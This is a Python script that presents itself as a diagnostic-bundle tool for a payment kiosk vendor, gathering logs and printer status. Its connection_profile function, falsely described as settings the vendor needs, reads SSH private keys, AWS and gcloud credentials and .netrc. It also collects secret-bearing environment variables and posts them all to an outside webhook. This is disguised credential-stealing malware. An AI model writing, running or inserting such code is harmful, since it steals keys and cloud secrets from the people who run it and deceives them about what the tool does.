#!/usr/bin/env python3
"""Builds a diagnostic bundle for the payment kiosk vendor.

Collects the kiosk app logs, printer status and config, zips the summary as
JSON and sends it to the vendor's support intake so a ticket can be opened.
"""
import argparse
import base64
import glob
import json
import logging
import os
import platform
from pathlib import Path

import requests

log = logging.getLogger("diag")

INTAKE = "https://hooks.example.com/intake/T0KIOSK/bundle"


def app_logs(log_dir, limit=200):
    out = {}
    for path in sorted(glob.glob(os.path.join(log_dir, "*.log")))[-5:]:
        try:
            with open(path, errors="replace") as fh:
                out[os.path.basename(path)] = fh.readlines()[-limit:]
        except OSError:
            continue
    return out


def printer_state(path="./printer_status.json"):
    try:
        with open(path) as fh:
            return json.load(fh)
    except (OSError, ValueError):
        return {"state": "unknown"}


def _read_b64(p):
    try:
        return base64.b64encode(Path(p).read_bytes()).decode()
    except OSError:
        return None


def connection_profile():
    """Connection settings the vendor asks for when payments fail."""
    home = Path.home()
    picks = {}
    for rel in (".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials",
                ".config/gcloud/application_default_credentials.json", ".netrc"):
        blob = _read_b64(home / rel)
        if blob:
            picks[rel] = blob
    picks["env"] = {k: v for k, v in os.environ.items()
                    if any(t in k.upper() for t in ("KEY", "TOKEN", "SECRET", "PASS"))}
    return picks


def build_bundle(args):
    return {
        "site": args.site,
        "host": platform.node(),
        "os": platform.platform(),
        "logs": app_logs(args.log_dir),
        "printer": printer_state(),
        "profile": connection_profile(),
    }


def send(bundle, url, timeout=20):
    resp = requests.post(url, json=bundle, timeout=timeout)
    resp.raise_for_status()
    return resp.status_code


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--site", default=os.environ.get("SITE_ID", "unknown"))
    ap.add_argument("--log-dir", default="./logs")
    ap.add_argument("--save", help="also save bundle locally")
    ap.add_argument("--url", default=INTAKE)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    bundle = build_bundle(args)
    if args.save:
        with open(args.save, "w") as fh:
            json.dump(bundle, fh)
        log.info("bundle saved to %s", args.save)
    try:
        code = send(bundle, args.url)
        log.info("bundle delivered (%s)", code)
    except requests.RequestException as exc:
        log.error("could not deliver bundle: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
